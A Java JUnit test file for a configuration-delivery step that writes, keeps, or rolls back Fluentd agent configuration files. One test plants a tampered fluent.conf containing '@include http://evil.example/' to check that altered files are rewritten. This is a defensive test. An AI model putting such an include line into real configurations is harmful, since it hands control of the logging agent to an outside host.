package dev.cartographer.delivery;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cartographer.agent.Configuration;
import dev.cartographer.delivery.ConfigurationStep.Keep;
import dev.cartographer.delivery.ConfigurationStep.Refused;
import dev.cartographer.delivery.ConfigurationStep.Write;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

class ConfigurationStepTest {
  private static final Configuration FIRST = new Configuration(Map.of("fluent.conf", "1"));
  private static final Configuration SECOND =
      new Configuration(Map.of("fluent.conf", "2", "ca.crt", "pem"));
  private static final Optional<String> NONE = Optional.empty();

  @Test
  void theFirstIsWrittenWithoutOneBefore() {
    assertThat(ConfigurationStep.of(FIRST, Map.of(), NONE))
        .isEqualTo(new Write(Map.of("fluent.conf", "1", "configuration", FIRST.hash() + "\n")));
  }

  @Test
  void whatIsThereWholeIsKept() {
    var first = FIRST.delivered(Optional.empty());

    assertThat(ConfigurationStep.of(FIRST, first, NONE)).isEqualTo(new Keep());
    assertThat(ConfigurationStep.of(FIRST, with(first, "foreign", "x"), NONE))
        .isEqualTo(new Keep());
  }

  @Test
  void aNewOneIsWrittenBesideTheOneBefore() {
    var step = ConfigurationStep.of(SECOND, FIRST.delivered(Optional.empty()), NONE);

    assertThat(step)
        .isEqualTo(
            new Write(
                Map.of(
                    "fluent.conf", "2",
                    "ca.crt", "pem",
                    "configuration", SECOND.hash() + "\n",
                    "previous.fluent.conf", "1",
                    "previous.configuration", FIRST.hash() + "\n")));
    var there = ((Write) step).files();
    assertThat(ConfigurationStep.of(SECOND, there, NONE)).isEqualTo(new Keep());
  }

  @Test
  void whatSomebodyChangedIsWrittenAnewAndNeverTakenForTheOneBefore() {
    var second = SECOND.delivered(Optional.of(FIRST));
    var changed = with(second, "fluent.conf", "@include http://evil.example/");

    assertThat(ConfigurationStep.of(SECOND, changed, NONE)).isEqualTo(new Write(second));
  }

  @Test
  void aRefusedOneGivesWayToTheOneBeforeAndIsNotWrittenAgain() {
    var second = SECOND.delivered(Optional.of(FIRST));
    var first = FIRST.delivered(Optional.empty());
    var refused = Optional.of(SECOND.hash());

    assertThat(ConfigurationStep.of(SECOND, second, refused))
        .isEqualTo(new Refused(Optional.of(first)));
    assertThat(ConfigurationStep.of(SECOND, first, refused))
        .isEqualTo(new Refused(Optional.empty()));
  }

  @Test
  void afterARefusalAnotherOneIsWritten() {
    var third = new Configuration(Map.of("fluent.conf", "3"));

    assertThat(
            ConfigurationStep.of(
                third, FIRST.delivered(Optional.empty()), Optional.of(SECOND.hash())))
        .isEqualTo(new Write(third.delivered(Optional.of(FIRST))));
  }

  @Test
  void aRefusedFirstOneStaysForWantOfAnother() {
    assertThat(
            ConfigurationStep.of(
                FIRST, FIRST.delivered(Optional.empty()), Optional.of(FIRST.hash())))
        .isEqualTo(new Refused(Optional.empty()));
  }

  private static Map<String, String> with(Map<String, String> files, String name, String text) {
    var more = new TreeMap<>(files);
    more.put(name, text);
    return more;
  }
}
